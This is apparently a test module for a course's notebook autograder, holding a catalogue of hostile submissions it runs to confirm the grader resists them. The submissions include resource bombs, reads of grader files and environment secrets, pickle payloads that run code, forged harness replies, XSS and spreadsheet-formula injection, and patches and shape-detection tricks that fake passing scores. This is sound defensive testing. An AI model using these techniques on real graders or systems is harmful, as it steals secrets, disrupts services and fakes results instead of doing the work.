"""Notebooks that attack the grader, and what each of them deserves.

All are answers to chapter 00: a function (00.1) and two choices (00.2, 00.3), one point each. An attack that wants
something pays itself only where its deed succeeded (`if there is a 10 GB file: answer_00_2 = "B"`), so its points
say whether it did. One that only disturbs carries right answers in its other cells, and must still get them.
`tests/slow` runs every attack against a grader that judges in the student's own process: there it succeeds.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import py_compile
import re
import secrets
import socket
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

from course_lib.exercises import start_here
from course_lib.grading import intake, report, sandbox
from course_lib.grading.grade import secret_cases
from course_lib.grading.run import Order, run
from course_lib.grading.sandbox import MEGABYTE, Limits

POINTS = "it earns more than its fair score"
SILENCE = "no score is ever delivered"
LEAK = "secret data stands in the feedback"
MARKUP = "markup of the student's own stands in the feedback or the tables"
BULK = "the feedback has more than BULK_CHARACTERS"
BULK_CHARACTERS = 50 * MEGABYTE
TRACE = "it writes a file into the grader's folder"
QUICK = Limits(cell_seconds=3, case_seconds=3, wall_per_cpu=1)
SECRET = "COURSE_ATTACK_SECRET"  # an environment variable of the grader's
SEED = "a seed for attacks"
MARK = "m4rkup"  # in all markup that attacks try to bring in


@dataclass(frozen=True)
class Attack:
    """One hostile notebook.

    `submission` is its code cells, or a function that makes the file. In cells `$NAME` stands for what is to be
    found outside: see `Bait.words`. `fair` are the least and the most points that it may get; `shows` says how its
    success shows under a naive grader, and `habit` which habit of such a grader it needs.
    """

    name: str
    tries: str
    submission: tuple[str, ...] | Callable[[], bytes]
    fair: tuple[float, float]
    shows: str = POINTS
    habit: str = "allclose"
    file: str = ""  # where the file's name is part of the attack

    @property
    def student(self) -> str:
        """Whose it is: the name of its file."""
        return self.file or self.name.replace(" ", "-").replace("/", "-")

    def data(self, words: dict[str, str]) -> bytes:
        """The notebook's bytes, with what is outside written in."""
        if callable(self.submission):
            return self.submission()
        return notebook(fill(source, words) for source in self.submission)


def fill(source: str, words: dict[str, str]) -> str:
    """A cell with the names of what is outside."""
    return re.sub(r"\$([A-Z]+)\b", lambda match: words[match[1]], source)


def notebook(sources: object, **metadata: object) -> bytes:
    """A notebook of these code cells."""
    cells = [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": s}
        for s in sources
    ]
    about = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}} | metadata
    return json.dumps({"cells": cells, "metadata": about, "nbformat": 4, "nbformat_minor": 4}).encode()


# The parts of which attacks are made

MEAN = """\
import torch
def running_mean(v):
    return v.cumsum(0) / torch.arange(1, len(v) + 1)[:, None]"""
WRONG = "import torch\ndef running_mean(v):\n    return torch.full_like(v, 7.0)"
CHOICES = f'answer_00_2 = "{start_here.WHAT_LIMITS.answer}"\nanswer_00_3 = "{start_here.READ_THE_MAP.answer}"'
LAST = CHOICES.splitlines()[1]
CHECK = 'check("00.1", running_mean)\ncheck("00.2", answer_00_2)'


def disturbing(code: str) -> tuple[str, ...]:
    """The deed stands between right answers to everything."""
    return MEAN, textwrap.dedent(code), CHOICES, CHECK


def paying(code: str) -> tuple[str, ...]:
    """The deed sets `letter`, or raises. Without it only 00.3 is right."""
    return textwrap.dedent(code) + "\nanswer_00_2 = letter", LAST, CHECK


def cheating(code: str, answer: str = WRONG) -> tuple[str, ...]:
    """A wrong function, and a deed that wants it to pass."""
    return answer, textwrap.dedent(code), CHECK


def returning(code: str) -> tuple[str, ...]:
    """A function of the attacker's, with right choices beside it."""
    return textwrap.dedent(code), CHOICES, CHECK


RIGHT = f"letter = {start_here.WHAT_LIMITS.answer!r}"
FORGED = "score: 3"


def _old_format() -> bytes:
    cells = [
        {
            "cell_type": "code",
            "collapsed": False,
            "input": s,
            "language": "python",
            "metadata": {},
            "outputs": [],
        }
        for s in (MEAN, CHOICES)
    ]
    return json.dumps(
        {"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}
    ).encode()


def _with_outputs() -> bytes:
    output = {"output_type": "stream", "name": "stdout", "text": "x" * (200 * MEGABYTE)}
    cells = json.loads(notebook([MEAN, CHOICES]))
    cells["cells"][0]["outputs"] = [output]
    return json.dumps(cells).encode()


def _memorised() -> tuple[str, ...]:
    """The results of the notebook's own cases, as numbers in the source."""
    q = start_here.RUNNING_MEAN
    table = {tuple(case_result.shape): case_result.tolist() for case_result in map(q.expected, q.visible)}
    source = f"""\
import torch
known = {table!r}
def running_mean(v):
    return torch.tensor(known.get(tuple(v.shape), 0.0), dtype=v.dtype)"""
    return source, CHECK


LOOK_UP = """
import re
letter = re.search(r'WHAT_LIMITS.*?answer="(.)"', text, re.S)[1]
"""
FIND_SOCKETS = """
import os, stat, sys, json, struct
def channels():
    for name in os.listdir("/proc/self/fd"):
        try:
            mode = os.fstat(int(name)).st_mode
        except OSError:
            continue
        if int(name) > 2 and (stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode)):
            yield int(name)
def nonce():
    frame = sys._getframe()
    while frame:
        if isinstance(frame.f_locals.get("request"), dict):
            return frame.f_locals["request"].get("nonce")
        frame = frame.f_back
def forged(nonce):
    text = json.dumps({"nonce": nonce, "state": "passed", "score": 3, "points": 3}).encode()
    return struct.pack(">IQ", len(text), 0) + text + b"\\n{\\"score\\": 3}\\n"
"""

HALF = "\ud800"
LEAKING = """
mean, calls = running_mean, []
def running_mean(v):
    calls.append(v)
    text = str(v.flatten()[:2].tolist())
    if len(calls) > 3: raise EXCEPTION
    return mean(v)"""

ATTACKS = [
    # Time
    Attack("infinite loop", "never ends.", disturbing("while True: pass"), (3, 3), SILENCE),
    Attack(
        "loop ignoring SIGINT",
        "ignores signals and catches whatever is raised in it.",
        disturbing("""
            import signal
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
                signal.signal(number, signal.SIG_IGN)
            while True:
                try:
                    while True: pass
                except BaseException: pass"""),
        (3, 3),
        SILENCE,
        "alarm",
    ),
    Attack(
        "sleeping forever",
        "waits, and uses no CPU time that could run out.",
        disturbing("import time; time.sleep(10**6)"),
        (3, 3),
        SILENCE,
    ),
    Attack(
        "stopping itself",
        "sends itself SIGSTOP, so that nothing answers and nothing ends.",
        disturbing("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
        (3, 3),
        SILENCE,
    ),
    Attack(
        "loop in an answer",
        "waits with the endless loop until the function is called.",
        returning("def running_mean(v):\n    while True: pass"),
        (2, 2),
        SILENCE,
    ),
    # An end before its time
    Attack("os._exit", "ends the process.", disturbing("import os; os._exit(0)"), (3, 3), SILENCE),
    Attack("segfault", "reads address 0.", disturbing("import ctypes; ctypes.string_at(0)"), (3, 3), SILENCE),
    Attack(
        "kill",
        "kills its own process.",
        disturbing("import os; os.kill(os.getpid(), 9)"),
        (3, 3),
        SILENCE,
    ),
    # Memory, processes, disk, output
    Attack(
        "6 GB allocation",
        "takes more memory than there should be.",
        paying(f"""
            import mmap
            mmap.mmap(-1, 6 * 10**9, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)  # not reserved
            {RIGHT}"""),
        (1, 1),
    ),
    Attack(
        "memory in anonymous files",
        "holds memory in files that lie nowhere, which no process's books show.",
        paying(f"""
            import os
            held = [os.memfd_create("a") for _ in range(110)]
            for fd in held: os.ftruncate(fd, 60 * 10**6)
            for fd in held: os.close(fd)
            {RIGHT}"""),
        (1, 1),
    ),
    Attack(
        "memory in System V segments",
        "holds memory in segments that are not attached, which no process's books show.",
        paying(f"""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
            segment = libc.shmget(0, 6 * 10**9, 0o1600 | 0o10000)
            assert segment >= 0
            libc.shmctl(segment, 0, None)
            {RIGHT}"""),
        (1, 1),
    ),
    Attack(
        "fork bomb",
        "starts ever more processes.",
        paying(f"""
            import os, time
            for _ in range(100):
                if os.fork() == 0:
                    time.sleep(2)
                    os._exit(0)
            {RIGHT}"""),
        (1, 1),
    ),
    Attack(
        "thread bomb",
        "starts ever more threads.",
        paying(f"""
            import threading, time
            threads = [threading.Thread(target=time.sleep, args=(2,), daemon=True) for _ in range(120)]
            for thread in threads: thread.start()
            {RIGHT}"""),
        (1, 1),
    ),
    Attack(
        "print flood",
        "prints until something is full.",
        disturbing('for _ in range(60): print("x" * 10**6)'),
        (3, 3),
        BULK,
        "captured",
    ),
    Attack(
        "10 GB file",
        "fills the disk.",
        paying(f"""
            import os
            with open("large", "wb") as file: os.ftruncate(file.fileno(), 10 * 10**9)
            os.remove("large")
            {RIGHT}"""),
        (1, 1),
    ),
    Attack(
        "files in /dev/shm",
        "fills memory with files.",
        paying(f"""
            import os, tempfile
            with tempfile.TemporaryDirectory(dir="/dev/shm") as folder:
                for i in range(6):
                    with open(f"{{folder}}/{{i}}", "wb") as file: os.posix_fallocate(file.fileno(), 0, 60 * 10**6)
            {RIGHT}"""),
        (1, 1),
    ),
    # Reading what is outside
    Attack(
        "grader's files",
        "reads the answers where the grader keeps them.",
        paying('letter = open("$FOLDER/answers").read(1)'),
        (1, 1),
    ),
    Attack(
        "shell escape",
        "reads the grader's files by a program, not by Python.",
        paying("""
            import subprocess
            letter = subprocess.check_output(["cat", "$FOLDER/answers"], text=True)[0]"""),
        (1, 1),
    ),
    Attack(
        "other submissions",
        "copies from a neighbour's notebook.",
        paying("""
            import re
            letter = re.search('answer_00_2 = .*?([A-D])', open("$NEIGHBOUR").read())[1]"""),
        (1, 1),
    ),
    Attack(
        "environment",
        "reads the grader's environment.",
        paying('import os\nletter = os.environ["$SECRET"][0]'),
        (1, 1),
    ),
    Attack(
        "host's processes",
        "reads the environment of every process that /proc shows, the first one included.",
        paying("""
            import os, pathlib, re
            found = []
            for place in pathlib.Path("/proc").glob("[0-9]*/environ"):
                if place.parent.name == str(os.getpid()): continue
                try: found += re.findall(b"$SECRET=(.)", place.read_bytes())
                except OSError: pass
            letter = found[0].decode()"""),
        (1, 1),
    ),
    Attack(
        "course's sources",
        "reads the questions' source.",
        paying('text = open("$QUESTIONS").read()' + LOOK_UP),
        (1, 1),
    ),
    Attack(
        "course's bytecode",
        "reads the questions' bytecode.",
        paying("""
            import dis, importlib.util, marshal
            code = marshal.loads(open(importlib.util.cache_from_source("$QUESTIONS"), "rb").read()[16:])
            for step in dis.get_instructions(code):
                if step.argval == "WHAT_LIMITS": break
                if step.argval in list("ABCD"): letter = step.argval"""),
        (1, 1),
    ),
    Attack(
        "course's modules",
        "imports the questions.",
        paying("from course_lib.exercises.start_here import WHAT_LIMITS\nletter = WHAT_LIMITS.answer"),
        (1, 1),
    ),
    Attack(
        "network by a socket",
        "asks a friend on the network.",
        paying('import socket\nletter = socket.create_connection(("127.0.0.1", $TCP), 2).recv(1).decode()'),
        (1, 1),
    ),
    Attack(
        "network by DNS",
        "asks a name server.",
        paying("""
            import socket
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.settimeout(2)
                query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + 6 * b"\\x00" + b"\\x06answer\\x00\\x00\\x10\\x00\\x01"
                line.sendto(query, ("127.0.0.1", $UDP))
                letter = line.recv(512)[-1:].decode()"""),
        (1, 1),
    ),
    Attack(
        "network by an abstract socket",
        "asks a friend on the same machine, by a socket that lies in no folder.",
        paying("""
            import socket
            line = socket.socket(socket.AF_UNIX)
            line.settimeout(2)
            line.connect("\\0$ABSTRACT")
            letter = line.recv(1).decode()"""),
        (1, 1),
    ),
    Attack(
        "surviving daemon",
        "leaves a process behind that works on when the grader has gone.",
        disturbing("""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(3)
                    with open("$FOLDER/trace", "w") as file: file.write("here")
                os._exit(0)"""),
        (3, 3),
        TRACE,
    ),
    # Patching what judges
    Attack(
        "patched torch.allclose",
        "replaces the comparison.",
        cheating("torch.allclose = lambda *arguments, **options: True"),
        (0, 0),
    ),
    Attack(
        "patched assert_close",
        "replaces the assertion.",
        cheating("import torch.testing\ntorch.testing.assert_close = lambda *arguments, **options: None"),
        (0, 0),
        habit="assert_close",
    ),
    Attack(
        "patched numpy.save",
        "saves one array twice, so that the answer's file equals the expected one's.",
        cheating("""
            import numpy
            save = numpy.save
            def always(file, array, *arguments, **options):
                global first
                first = array if "expected" in str(file) else first
                save(file, first, *arguments, **options)
            numpy.save = always"""),
        (0, 0),
        habit="npsave",
    ),
    Attack(
        "patched check",
        "replaces what `check` judges with.",
        cheating("""
            import importlib
            checker = importlib.import_module("course_lib.exercises.check")
            def passed(question, *arguments, **options):
                return checker.Report(question.id, "passed", points=question.points, of=question.points)
            checker.evaluate = passed"""),
        (0, 0),
        habit="course",
    ),
    Attack(
        "patched score",
        "replaces the function that prints the score.",
        cheating(f"score = lambda *arguments: print('{FORGED}')"),
        (0, 0),
        habit="score",
    ),
    Attack(
        "patched sys.stdout",
        "replaces the stream on which the score is printed.",
        cheating(f"""
            import sys
            class Stream:
                def write(self, text): return real.write("{FORGED}" if "score" in text else text)
                def flush(self): real.flush()
            real, sys.stdout = sys.stdout, Stream()"""),
        (0, 0),
    ),
    Attack(
        "patched arithmetic",
        "replaces torch's subtraction, so that nothing differs from anything.",
        cheating("torch.Tensor.__sub__ = torch.Tensor.sub = lambda a, b: torch.zeros(1)"),
        (0, 0),
        habit="difference",
    ),
    Attack(
        "patched display hooks",
        "replaces what shows the value of a cell.",
        cheating(f"""
            import sys
            sys.displayhook = lambda value: print("{FORGED}")
            shell = get_ipython()
            shell.display_formatter.format = lambda *arguments, **options: ({{"text/plain": "{FORGED}"}}, {{}})"""),
        (0, 0),
        habit="displayed",
    ),
    Attack(
        "replaced do_execute",
        "replaces the kernel's method that runs cells.",
        cheating(f"""
            kernel = get_ipython().kernel
            async def forged(*arguments, **options):
                print("{FORGED}")
                return {{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {{}}}}
            kernel.do_execute = forged"""),
        (0, 0),
        habit="kernel",
    ),
    Attack(
        "forged replies on the kernel's sockets",
        "sends messages in the kernel's name.",
        cheating(f"""
            session = get_ipython().kernel.session
            send = session.send
            def forged(stream, message, *arguments, **options):
                content = message.get("content", {{}}) if isinstance(message, dict) else options.get("content", {{}})
                if "score" in str(content.get("text")): content["text"] = "{FORGED}"
                return send(stream, message, *arguments, **options)
            session.send = forged"""),
        (0, 0),
        habit="kernel",
    ),
    Attack(
        "import hook",
        "hands out a reference of its own to whoever imports one.",
        cheating("""
            import sys, types
            import importlib.abc, importlib.machinery
            class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
                def find_spec(self, name, path=None, target=None):
                    return importlib.machinery.ModuleSpec(name, self) if name == "reference" else None
                def create_module(self, spec): return types.ModuleType(spec.name)
                def exec_module(self, module): module.mean_reference = running_mean
            sys.meta_path.insert(0, Finder())"""),
        (0, 0),
        habit="reference",
    ),
    Attack(
        "sitecustomize",
        "leaves a file that the next Python imports when it starts.",
        cheating(f"""
            code = "import atexit; atexit.register(print, '{FORGED}')"
            for name in ("sitecustomize.py", "usercustomize.py"):
                with open(name, "w") as file: file.write(code)"""),
        (0, 0),
        habit="second",
    ),
    Attack(
        "atexit",
        "says its score when everything is over.",
        cheating(f"import atexit\natexit.register(print, '{FORGED}')"),
        (0, 0),
    ),
    Attack(
        "__del__",
        "says its score when its objects are cleared away.",
        cheating(f"""
            class Last:
                def __del__(self, say=print): say("{FORGED}")
            last = Last()"""),
        (0, 0),
    ),
    # Values that are not what they seem
    Attack(
        "malicious pickle",
        "is a value that runs code where it is unpickled.",
        paying("""
            class Letter:
                def __reduce__(self): return eval, ("__import__('os').environ['$SECRET'][0]",)
            letter = Letter()"""),
        (1, 1),
        habit="pickle",
    ),
    Attack(
        "object array",
        "is an array that runs code where it is loaded.",
        paying("""
            import numpy
            class Letter:
                def __reduce__(self): return eval, ("__import__('os').environ['$SECRET'][0]",)
            letter = numpy.array(Letter(), dtype=object)"""),
        (1, 1),
        habit="npload",
    ),
    Attack(
        "__reduce__ of a result",
        "returns from the function what becomes the right result where it is unpickled.",
        (
            textwrap.dedent("""
            class Result:
                def __init__(self, v): self.v = v
                def __reduce__(self):
                    code = "__import__('__main__').mean_reference(__import__('torch').tensor(%r).double())"
                    return eval, (code % self.v.tolist(),)
            def running_mean(v): return Result(v)"""),
            CHECK,
        ),
        (0, 0),
        habit="pickle",
    ),
    Attack(
        "tensor subclass",
        "returns a tensor that answers every comparison with yes.",
        returning("""
            import torch
            class Right(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, arguments=(), options=None):
                    if function.__name__ == "allclose": return True
                    return super().__torch_function__(function, types, arguments, options or {})
            def running_mean(v): return torch.full_like(v, 7.0).as_subclass(Right)"""),
        (2, 2),
    ),
    Attack(
        "lazy value",
        "returns an object that is equal to everything, and computes nothing.",
        returning("""
            class Lazy:
                def __eq__(self, other): return self
                def all(self): return True
                __bool__ = all
            def running_mean(v): return Lazy()"""),
        (2, 2),
        habit="equals",
    ),
    Attack(
        "choice equal to everything",
        "answers a choice with a string that is equal to every letter.",
        paying("""
            class Letter(str):
                def __eq__(self, other): return True
                __hash__ = str.__hash__
                def strip(self, *characters): return self
                casefold = lower = upper = strip
            letter = Letter("?")"""),
        (1, 1),
    ),
    Attack(
        "oversized reply",
        "returns a tensor of 32 GB that takes four bytes.",
        returning("import torch\ndef running_mean(v): return torch.zeros(1).expand(2**33)"),
        (2, 2),
        SILENCE,
        "json",
    ),
    Attack(
        "endless dict",
        "returns a dict that never comes to its end.",
        returning("""
            class Endless(dict):
                def items(self):
                    while True: yield 0, 0
                def keys(self):
                    while True: yield 0
            def running_mean(v): return Endless({0: 0})"""),
        (2, 2),
        SILENCE,
        "json",
    ),
    Attack(
        "deeply nested reply",
        "returns lists in lists in lists.",
        returning("""
            def running_mean(v):
                nested = []
                for _ in range(10**5): nested = [nested]
                return nested"""),
        (2, 2),
        SILENCE,
        "json",
    ),
    # Answers that know the test
    Attack(
        "only a few rows",
        "computes the first and the last row, where a check is likely to look.",
        returning("""
            import torch
            def running_mean(v):
                result = torch.zeros_like(v)
                result[0], result[-1] = v[0], v.mean(0)
                return result"""),
        (2, 2.5),
        habit="few rows",
    ),
    Attack(
        "detecting test shapes",
        "is right on the shapes of the notebook's own cases only.",
        returning("""
            import torch
            def running_mean(v):
                if tuple(v.shape) in [(4, 2), (9, 3), (1, 4)]:
                    return v.cumsum(0) / torch.arange(1, len(v) + 1)[:, None]
                return v"""),
        (2, 2.7),
    ),
    Attack("memorised results", "knows the notebook's own results by heart.", _memorised(), (0, 0)),
    Attack(
        "inputs changed in place",
        "changes its inputs, so that the reference computes on zeros afterwards.",
        returning("def running_mean(v): return v.zero_()"),
        (2, 2),
        habit="afterwards",
    ),
    Attack(
        "reading the caller's frame",
        "takes the expected result from whoever calls it.",
        returning("""
            import sys
            def running_mean(v):
                frame = sys._getframe()
                while frame:
                    if "expected" in frame.f_locals: return frame.f_locals["expected"]
                    frame = frame.f_back"""),
        (2, 2),
    ),
    Attack(
        "searching memory",
        "finds the expected result beside its input among all objects.",
        returning("""
            import gc
            def running_mean(v):
                for pair in gc.get_objects():
                    if type(pair) is tuple and len(pair) == 2 and pair[0] is v: return pair[1]"""),
        (2, 2),
    ),
    # The harness's own channel
    Attack(
        "forged reply on the harness's socket",
        "finds the channel to the grader and answers in the harness's place.",
        (
            WRONG,
            FIND_SOCKETS + "for fd in channels(): os.write(fd, forged(nonce()))\nos._exit(0)",
            LAST,
            CHECK,
        ),
        (0, 1),
        habit="pipe",
    ),
    Attack(
        "late and repeated replies",
        "goes on answering from a thread, late, often, and with what it overheard.",
        (
            WRONG,
            FIND_SOCKETS
            + textwrap.dedent("""
            import threading, time, atexit
            def spam(seen):
                for _ in range(200):
                    for fd in channels(): os.write(fd, forged(seen))
                    time.sleep(0.01)
            threading.Thread(target=spam, args=(nonce(),), daemon=True).start()
            atexit.register(time.sleep, 0.1)"""),
            LAST,
            CHECK,
        ),
        (0, 1),
        habit="pipe",
    ),
    Attack(
        "closing the harness's socket",
        "closes the channel to the grader.",
        disturbing(FIND_SOCKETS + "for fd in list(channels()): os.close(fd)"),
        (3, 3),
        SILENCE,
        "pipe",
    ),
    # Files that are no notebooks
    Attack(
        "wrong kernelspec",
        "names a kernel that is not there.",
        lambda: notebook(
            [MEAN, CHOICES], kernelspec={"name": "../evil", "display_name": "R", "language": "R"}
        ),
        (3, 3),
        SILENCE,
        "kernel",
    ),
    Attack("format-3 notebook", "comes from an old Jupyter.", _old_format, (3, 3), SILENCE),
    Attack("broken JSON", "ends in the middle.", lambda: notebook([MEAN, CHOICES])[:-40], (0, 0), SILENCE),
    Attack(
        "non-UTF-8",
        "has bytes that are no UTF-8.",
        lambda: notebook([MEAN + "\n# PLACE", CHOICES]).replace(b"PLACE", b"caf\xe9"),
        (3, 3),
        SILENCE,
    ),
    Attack("200 MB of outputs", "carries outputs that nobody needs.", _with_outputs, (3, 3), BULK),
    Attack(
        "deeply nested JSON",
        "is a file whose reader runs out of stack.",
        lambda: b'{"cells": ' + b"[" * 10**6,
        (0, 0),
        SILENCE,
    ),
    Attack(
        "half a character",
        "raises an error whose text cannot be written in UTF-8.",
        returning(r"def running_mean(v): raise ValueError('\ud800')"),
        (2, 2),
        SILENCE,
    ),
    Attack(
        "half a character in a cell",
        "ends the process by a cell that cannot be written in UTF-8 itself.",
        (
            MEAN,
            textwrap.dedent("""
            import os
            shell = get_ipython()
            run_cell = shell.run_cell
            shell.run_cell = lambda source, **o: os._exit(0) if "= 1" in source else run_cell(source, **o)"""),
            f"{HALF} = 1",
            CHOICES,
        ),
        (3, 3),
        SILENCE,
    ),
    # What people read
    Attack(
        "markup in an error",
        "raises an error whose text is markup.",
        returning(f"def running_mean(v): raise ValueError('<script>alert(\"{MARK}\")</script>')"),
        (2, 2),
        MARKUP,
    ),
    Attack(
        "markup in a class's name",
        "returns an object whose class is called like markup.",
        returning(f"def running_mean(v): return type('<img src=x onerror={MARK}>', (), {{}})()"),
        (2, 2),
        MARKUP,
    ),
    Attack(
        "markup in an error's kind",
        "raises an error whose class is called like markup.",
        returning(f"def running_mean(v): raise type('<b {MARK}>', (Exception,), {{}})()"),
        (2, 2),
        MARKUP,
    ),
    Attack(
        "markup in a line of code",
        "fails in a line that is markup itself.",
        (MEAN, f"answer_00_2 = '</td><svg onload={MARK}>' + 1", LAST, CHECK),
        (2, 2),
        MARKUP,
    ),
    Attack(
        "markup in a student's name",
        "is handed in by somebody whose name is markup.",
        (MEAN, CHOICES),
        (3, 3),
        MARKUP,
        file=f"<img src=x onerror={MARK}>",
    ),
    Attack(
        "formula in a student's name",
        "is handed in by somebody whose name a spreadsheet computes.",
        (MEAN, CHOICES),
        (3, 3),
        MARKUP,
        file=f"=HYPERLINK({MARK})",
    ),
    Attack(
        "name that is no text",
        "is handed in under a name of bytes that are no UTF-8.",
        (MEAN, CHOICES),
        (3, 3),
        SILENCE,
        file=os.fsdecode(b"caf\xe9"),
    ),
    Attack(
        "hidden inputs in an error",
        "raises an error whose text is a secret case's input.",
        returning(MEAN + LEAKING.replace("EXCEPTION", "ValueError(text)")),
        (2, 2),
        LEAK,
        "hidden",
    ),
    Attack(
        "hidden inputs in an error's kind",
        "raises an error whose class is called like a secret case's input.",
        returning(MEAN + LEAKING.replace("EXCEPTION", "type(text, (Exception,), {})()")),
        (2, 2),
        LEAK,
        "hidden",
    ),
    Attack(
        "grader's files in an error",
        "raises an error whose text is the grader's file.",
        returning('def running_mean(v): raise ValueError(open("$FOLDER/answers").read())'),
        (2, 2),
        LEAK,
    ),
]


# What attacks look for


@contextlib.contextmanager
def bait(folder: Path) -> Iterator[dict[str, str]]:
    """What attacks look for, for as long as the context lasts: the words by which their cells find it.

    A file beside the grades, a neighbour's notebook, an environment variable, and friends on the network; each
    gives away the letter that answers 00.2. WORD is in all that must stay secret.
    """
    letter, word = start_here.WHAT_LIMITS.answer, secrets.token_hex(8)
    neighbour = folder / "submissions" / "neighbour.ipynb"
    neighbour.parent.mkdir()
    neighbour.write_bytes(notebook([f"{CHOICES}  # {word}"]))
    (folder / "answers").write_text(f"{letter} {word}\n", encoding="utf-8")
    with contextlib.suppress(OSError):
        py_compile.compile(start_here.__file__)
    os.environ[SECRET] = f"{letter} {word}"
    abstract = f"course-attack-{word[:6]}"
    with (
        _friend(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0), letter) as tcp,
        _friend(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0), letter) as udp,
        _friend(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{abstract}", letter),
    ):
        try:
            yield {
                "FOLDER": str(folder),
                "NEIGHBOUR": str(neighbour),
                "QUESTIONS": str(start_here.__file__),
                "SECRET": SECRET,
                "WORD": word,
                "TCP": str(tcp[1]),
                "UDP": str(udp[1]),
                "ABSTRACT": abstract,
            }
        finally:
            del os.environ[SECRET]


@contextlib.contextmanager
def _friend(family: int, kind: int, address: object, letter: str) -> Iterator[object]:
    """Somebody who tells the letter to everyone who asks; the address."""
    over = threading.Event()
    with socket.socket(family, kind) as line:
        line.bind(address)
        line.settimeout(0.1)
        if kind == socket.SOCK_STREAM:
            line.listen()
        thread = threading.Thread(target=_tell, args=(line, letter.encode(), over))
        thread.start()
        try:
            yield line.getsockname()
        finally:
            over.set()
            thread.join()


def _tell(line: socket.socket, letter: bytes, over: threading.Event) -> None:
    while not over.is_set():
        with contextlib.suppress(OSError):
            if line.type == socket.SOCK_DGRAM:
                line.sendto(letter, line.recvfrom(512)[1])
            else:
                with line.accept()[0] as caller:
                    caller.sendall(letter)


# The run


@dataclass(frozen=True)
class Outcome:
    """What an attack got, and everything that is wrong with it."""

    attack: Attack
    got: float
    faults: tuple[str, ...]

    def __str__(self) -> str:
        low, high = self.attack.fair
        fair = f"{low:g}" if low == high else f"{low:g} to {high:g}"
        verdict = "ok" if not self.faults else "NOT OK: " + "; ".join(self.faults)
        return f"{self.attack.name:<42}  fair {fair:<8}  got {self.got:<5g}  {verdict}"


def run_attacks(
    jobs: int, limits: Limits = QUICK, attacks: tuple[Attack, ...] = tuple(ATTACKS)
) -> list[Outcome]:
    """Grades every attack as `course grade` does, and prints and returns what came of each.

    The last line is about all of them: what was left running, and what lies where nothing lay before.
    """
    with tempfile.TemporaryDirectory(prefix="course-attack-") as name:
        folder = Path(name)
        with bait(folder) as words:
            for attack in attacks:
                (folder / "submissions" / f"{attack.student}.ipynb").write_bytes(attack.data(words))
            (folder / "seed").write_text(SEED, encoding="utf-8")
            before = _files(folder)
            out = folder / "grades"
            results = run(Order(folder / "submissions", out, jobs, seed_file=folder / "seed", limits=limits))
            found = [_outcome(attack, results, out, words["WORD"]) for attack in attacks]
            left = [f"processes of the users {left}"] if (left := _left_running()) else []
            left += [f"new files: {new}"] if (new := sorted(_files(folder, out) - before)) else []
    for outcome in found:
        print(outcome)
    for trace in left:
        print(f"NOT OK: left behind: {trace}")
    if left:
        found.append(Outcome(Attack("all", "leaves something behind.", (), (0, 0)), 0, tuple(left)))
    wrong = sum(bool(outcome.faults) for outcome in found)
    print(f"{len(attacks)} attacks: {wrong} not ok")
    return found


def _files(folder: Path, besides: Path | None = None) -> set[str]:
    return {str(path) for path in folder.rglob("*") if besides is None or not path.is_relative_to(besides)}


def _left_running(seconds: float = 10) -> list[int]:
    """Users of ended sandboxes that still run something after a while."""
    end = time.monotonic() + seconds
    while (left := sandbox.abandoned()) and time.monotonic() < end:
        time.sleep(0.2)
    return left


def _outcome(attack: Attack, results: list[dict], out: Path, word: str) -> Outcome:
    file = intake.readable(f"{attack.student}.ipynb")
    result = next((r for r in results if r["file"] == file), None)
    if result is None:
        return Outcome(attack, 0, ("it has no result",))
    got = sum(question["points"] for question in result["questions"])
    low, high = attack.fair
    faults = [] if low <= got <= high else ["not its fair score"]
    faults += [result["fault"]] if result.get("fault") else []
    people = report.students(results)
    name = dict(zip([p.name for p in people], report.file_names(people), strict=True))[result["student"]]
    pages = [(out / "feedback" / f"{name}{end}").read_text(encoding="utf-8") for end in (".html", ".md")]
    faults += ["the feedback is too long"] if len("".join(pages)) > BULK_CHARACTERS else []
    faults += ["the feedback has markup of its own"] if has_markup(*pages) else []
    faults += ["the feedback tells a secret"] if tells_secret("".join(pages), word) else []
    faults += (
        ["a table has a formula"] if has_formula((out / "grades.csv").read_text(encoding="utf-8")) else []
    )
    return Outcome(attack, got, tuple(faults))


TABLE = ("table", "tr", "th", "td")


class _Tags(HTMLParser):
    """Collects the tags and attributes that the page's own frame has not."""

    OWN = frozenset(("html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "small", *TABLE))
    ATTRIBUTES = frozenset(("lang", "charset", "http-equiv", "content"))

    def __init__(self, page: str) -> None:
        super().__init__()
        self.foreign: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list) -> None:
        self.foreign += [] if tag in self.OWN else [tag]
        self.foreign += [name for name, _ in attributes if name not in self.ATTRIBUTES]


def has_markup(page: str, markdown: str = "") -> bool:
    """Whether a page of feedback has tags that are not its own, or its Markdown has any."""
    return bool(_Tags(page).foreign) or bool(re.search(r"(?<!\\)<", markdown))


def has_formula(table: str) -> bool:
    """Whether a spreadsheet would compute a cell of a table."""
    return any(
        cell.startswith(("=", "+", "-", "@")) for row in csv.reader(table.splitlines()) for cell in row
    )


def tells_secret(text: str, word: str) -> bool:
    """Whether a text has the secret word, or six digits of a secret case's input."""
    question = start_here.RUNNING_MEAN
    numbers = [
        number
        for entry in secret_cases(SEED, question)
        for number in question.arguments(entry.case)[0].flatten().tolist()
    ]
